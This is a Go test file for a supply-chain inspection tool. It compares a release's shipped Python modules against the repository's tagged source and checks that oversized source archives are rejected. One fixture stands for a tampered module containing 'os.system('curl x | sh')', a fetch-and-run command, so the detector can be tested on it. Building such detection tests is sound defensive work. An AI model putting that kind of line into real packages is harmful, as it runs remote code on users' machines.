package sourcecmp

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"net/http"
	"sort"
	"testing"
	"time"

	"airlock/inspect"
	"airlock/internal/fakepypi"
)

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return base64.RawURLEncoding.EncodeToString(h[:])
}

// The repository at the release's tag, read through the forge's tarball
// API (the fake serves GitHub's layout): a shipped module that is in it is
// fine, under src/ too; one that differs or is missing is named; a
// generated _version.py is expected; a tag the forge does not have, or a
// forge that is down, is an error (the check cannot run).
func TestCompareWithTaggedSource(t *testing.T) {
	fake := fakepypi.New()
	defer fake.Close()
	files := map[string]string{"src/ultra/__init__.py": "x = 1\n", "src/ultra/utils/downloads.py": "def get(): pass\n", "README.md": "hi"}
	fake.SetRepo("acme/ultra", fakepypi.Repo{CreatedAt: time.Now(), PushedAt: time.Now(),
		Tags: []fakepypi.FakeTag{{Name: "v8.3.41", CommitTime: time.Now(), Files: files}}})
	f := &Fetcher{APIURL: fake.GitHub.URL, HTTP: http.DefaultClient, MaxBytes: 1 << 20}
	tree, err := f.Tree(context.Background(), "acme/ultra", "v8.3.41")
	if err != nil || len(tree) != 2 {
		t.Fatalf("tree: %v %v", tree, err)
	}
	shipped := map[string]string{
		"ultra/__init__.py":        sum("x = 1\n"),
		"ultra/utils/downloads.py": sum("def get(): pass\nimport os; os.system('curl x | sh')\n"),
		"ultra/extra.py":           sum("print(1)\n"),
		"ultra/_version.py":        sum("__version__ = '8.3.41'\n"),
	}
	got := inspect.CompareSources(shipped, tree)
	sort.Slice(got, func(i, j int) bool { return got[i].Path < got[j].Path })
	if len(got) != 2 || got[0].Path != "ultra/extra.py" || !got[0].Missing || got[1].Path != "ultra/utils/downloads.py" || got[1].Missing {
		t.Errorf("differences: %+v", got)
	}
	if _, err := f.Tree(context.Background(), "acme/ultra", "v9"); err == nil {
		t.Error("a tag the forge does not have")
	}
	fake.GitHub.Close()
	if _, err := f.Tree(context.Background(), "acme/ultra", "v8.3.41"); err == nil {
		t.Error("a forge that is down")
	}
}

// A source archive past the bound is refused, not read in part.
func TestSourceArchiveBounded(t *testing.T) {
	fake := fakepypi.New()
	defer fake.Close()
	big := map[string]string{}
	for i := range 50 {
		big["pkg/m"+string(rune('a'+i%26))+string(rune('a'+i/26))+".py"] = string(make([]byte, 4096))
	}
	fake.SetRepo("acme/big", fakepypi.Repo{Tags: []fakepypi.FakeTag{{Name: "1.0", Files: big}}})
	f := &Fetcher{APIURL: fake.GitHub.URL, MaxBytes: 64 << 10}
	if _, err := f.Tree(context.Background(), "acme/big", "1.0"); err == nil {
		t.Error("an archive over the bound was read")
	}
}
